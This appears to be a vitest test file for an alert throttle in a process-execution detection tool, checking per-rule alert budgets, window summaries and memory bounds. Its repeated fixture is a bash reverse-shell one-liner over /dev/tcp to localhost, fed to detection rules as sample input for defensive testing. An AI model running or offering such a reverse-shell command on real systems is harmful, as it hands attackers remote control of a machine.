import { describe, expect, it } from 'vitest';
import { AlertThrottle, buildAlert, type AlertDocument } from '../../src/alerts/index.js';
import { bundledRulesDir, loadRules, RuleSet } from '../../src/rules/index.js';
import { execEvent } from '../rules/support/exec-event.js';

const { rules } = await loadRules([bundledRulesDir()]);
const set = new RuleSet(rules);
let now = 0;
const clock = { nowMs: () => now };

function reverseShellAlert(pid: number, port = 9): AlertDocument {
  const [match] = set.evaluate(execEvent({ name: 'setsid', pid, args: ['setsid', 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`] }));
  return buildAlert(match!, clock);
}

const SEED = '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39';

describe('AlertThrottle', () => {
  it('lets every launch through at the time, identical command lines included, up to the rule budget', () => {
    now = 0;
    const throttle = new AlertThrottle(clock, { windowMs: 60_000 });
    // The same one-liner five times in ten seconds, from fresh processes: five alerts, at once.
    for (let i = 0; i < 5; i++) {
      now = i * 2_000;
      const out = throttle.offer(reverseShellAlert(100 + i));
      expect(out).not.toBeNull();
      expect((out!.process as { pid: number }).pid).toBe(100 + i);
      expect(out!.execwarden?.throttle).toBeUndefined();
    }
    expect(throttle.stats()).toEqual({ emitted: 5, suppressed: 0, tracked: 0, heldBytes: 0 });
  });

  it('holds back only what a rule raises beyond its budget, and counts it per kind', () => {
    now = 1_000;
    const throttle = new AlertThrottle(clock, { windowMs: 60_000, perRuleBudget: 3 });
    for (let i = 0; i < 3; i++) expect(throttle.offer(reverseShellAlert(100 + i))).not.toBeNull();
    for (let i = 3; i <= 500; i++) {
      now += 10;
      expect(throttle.offer(reverseShellAlert(100 + i, i % 2 === 0 ? 9 : 10))).toBeNull();
    }
    expect(throttle.stats()).toMatchObject({ emitted: 3, suppressed: 498, tracked: 2 });
    expect(throttle.stats().heldBytes).toBeGreaterThan(0);
  });

  it('summarises each held-back kind once its rule window closes: count, first and latest', () => {
    now = 0;
    const throttle = new AlertThrottle(clock, { windowMs: 1_000, perRuleBudget: 1 });
    expect(throttle.offer(reverseShellAlert(1))).not.toBeNull();
    now = 200;
    expect(throttle.offer(reverseShellAlert(2))).toBeNull();
    now = 700;
    expect(throttle.offer(reverseShellAlert(3))).toBeNull();
    expect(throttle.offer(reverseShellAlert(4, 10))).toBeNull();
    now = 999;
    expect(throttle.drain()).toEqual([]);
    now = 1_000;
    const drained = throttle.drain();
    expect(drained).toHaveLength(2);
    expect(drained[0]).toMatchObject({ ruleId: SEED, suppressed: 2, windowStartMs: 0, firstSeenMs: 200, lastSeenMs: 700 });
    expect((drained[0]!.first.process as { pid: number }).pid).toBe(2);
    expect((drained[0]!.latest.process as { pid: number }).pid).toBe(3);
    expect(drained[1]).toMatchObject({ suppressed: 1 });
    expect(throttle.drain()).toEqual([]);
    expect(throttle.stats().tracked).toBe(0);
    // A new window: the budget is whole again.
    expect(throttle.offer(reverseShellAlert(5))).not.toBeNull();
  });

  it('reports what is held when an alert opens the next window before a drain, and everything on drainAll', () => {
    now = 0;
    const throttle = new AlertThrottle(clock, { windowMs: 1_000, perRuleBudget: 1 });
    throttle.offer(reverseShellAlert(1));
    throttle.offer(reverseShellAlert(2));
    now = 1_500;
    expect(throttle.offer(reverseShellAlert(3))).not.toBeNull();
    throttle.offer(reverseShellAlert(4));
    expect(throttle.drain().map((s) => s.suppressed)).toEqual([1]);
    expect(throttle.drainAll().map((s) => (s.latest.process as { pid: number }).pid)).toEqual([4]);
    expect(throttle.stats().tracked).toBe(0);
  });

  it('counts budgets per rule: one rule\'s flood does not hold back another\'s alert', () => {
    now = 0;
    const throttle = new AlertThrottle(clock, { windowMs: 60_000, perRuleBudget: 1 });
    const other = (pid: number): ReturnType<typeof reverseShellAlert> => {
      const alert = reverseShellAlert(pid);
      return { ...alert, rule: { ...alert.rule, id: 'another-rule' } };
    };
    throttle.offer(reverseShellAlert(1));
    expect(throttle.offer(reverseShellAlert(2))).toBeNull();
    expect(throttle.offer(other(3))).not.toBeNull();
  });

  it('window 0 turns flood control off', () => {
    now = 0;
    const throttle = new AlertThrottle(clock, { windowMs: 0, perRuleBudget: 1 });
    for (let i = 0; i < 50; i++) expect(throttle.offer(reverseShellAlert(i))).not.toBeNull();
  });

  it('caps the kinds it holds and reports the oldest early to make room', () => {
    now = 0;
    const throttle = new AlertThrottle(clock, { windowMs: 60_000, maxKeys: 2, perRuleBudget: 1 });
    throttle.offer(reverseShellAlert(1, 1));
    throttle.offer(reverseShellAlert(2, 1));
    throttle.offer(reverseShellAlert(3, 2));
    throttle.offer(reverseShellAlert(4, 3));
    expect(throttle.stats().tracked).toBe(2);
    expect(throttle.drain().map((s) => s.suppressed)).toEqual([1]);
  });

  it('holds kinds in bounded bytes: a hashed identity and shortened occurrences', async () => {
    const { alertIdentity } = await import('../../src/alerts/index.js');
    now = 0;
    const pad = 'x'.repeat(120_000);
    const [match] = set.evaluate(execEvent({ name: 'setsid', pid: 9, args: ['setsid', 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/9 0>&1 #${pad}`] }));
    const big = buildAlert(match!, clock);
    expect(alertIdentity(big).length).toBeLessThan(64);
    const throttle = new AlertThrottle(clock, { windowMs: 1_000, keptAlertBytes: 8_192, perRuleBudget: 1 });
    expect(throttle.offer(big)).toBe(big); // what goes out is whole
    throttle.offer(big);
    throttle.offer(big);
    now = 2_000;
    const [summary] = throttle.drain();
    expect(Buffer.byteLength(JSON.stringify(summary!.first))).toBeLessThanOrEqual(8_192);
    expect(Buffer.byteLength(JSON.stringify(summary!.latest))).toBeLessThanOrEqual(8_192);
    expect(summary!.latest.rule.id).toBe(big.rule.id);
  });

  it('bounds what all held kinds keep together, reporting the oldest early beyond it', () => {
    now = 0;
    const pad = 'y'.repeat(20_000);
    const longAlert = (pid: number): AlertDocument => {
      const [match] = set.evaluate(execEvent({ name: 'setsid', pid, args: ['setsid', 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${pid} 0>&1 #${pad}`] }));
      return buildAlert(match!, clock);
    };
    const throttle = new AlertThrottle(clock, { windowMs: 60_000, perRuleBudget: 1, keptAlertBytes: 8_192, maxHeldBytes: 64 * 1024 });
    for (let pid = 1; pid <= 40; pid++) throttle.offer(longAlert(pid));
    const stats = throttle.stats();
    expect(stats.heldBytes).toBeLessThanOrEqual(64 * 1024);
    expect(stats.tracked).toBeGreaterThan(0);
    expect(stats.tracked).toBeLessThan(39);
    // Every held-back alert is accounted for: reported early, or held until its window ends.
    const early = throttle.drain();
    expect(early.length + stats.tracked).toBe(39);
    expect(throttle.drainAll().length).toBe(stats.tracked);
    expect(throttle.stats().heldBytes).toBe(0);
  });
});
